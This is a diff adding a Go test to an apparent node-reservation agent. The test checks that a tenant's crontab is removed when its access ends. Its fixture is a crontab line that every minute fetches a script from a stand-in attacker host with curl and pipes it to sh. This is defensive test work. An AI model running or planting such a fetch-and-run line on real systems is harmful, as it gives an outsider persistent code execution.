@@ -180,3 +180,32 @@ func TestACleaningThatCannotReadItsStateFails(t *testing.T) {
 		t.Errorf("a cleaning that could not read the state database succeeded: %+v", ev)
 	}
 }
+
+// TestAnEndedAccessLeavesNothingScheduled: the end of an access ended the
+// login user's processes, but its crontab stayed until the cleaning, which
+// the server may ask for much later (no leader, the host cut off): a cron
+// job ran the tenant's code again every minute after its access ended.
+func TestAnEndedAccessLeavesNothingScheduled(t *testing.T) {
+	login, _, store := sessionAndStore(t, "nodus-cron")
+	cron := t.TempDir()
+	if err := os.WriteFile(filepath.Join(cron, login), []byte("* * * * * curl -s https://attacker.example/c | sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	const uid = "8d7c6b5a-4f3e-4d2c-9b1a-0f9e8d7c6b5a"
+	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
+	node.Status.Reservation, node.Status.ReservationUID = "r", uid
+	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
+	a.cleaning.Paths.CronSpools, a.cleaning.Paths.AtSpools, a.cleaning.Paths.LingerDir = []string{cron}, nil, ""
+	r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "r", UID: uid}}
+	r.Spec.LoginUser, r.Spec.Project = login, "acme"
+	r.Status.Epoch, r.Status.State, r.Status.LoginUser = 1, nodusv1.ReservationStateActive, login
+	a.apply(context.Background(), r)
+	if _, err := os.Stat(filepath.Join(cron, login)); err != nil {
+		t.Fatalf("granting access touched the crontab: %v", err)
+	}
+	r.Status.Epoch, r.Status.State = 2, nodusv1.ReservationStateReleased
+	a.apply(context.Background(), r)
+	if _, err := os.Stat(filepath.Join(cron, login)); !os.IsNotExist(err) {
+		t.Errorf("the tenant's crontab outlived its access: %v", err)
+	}
+}
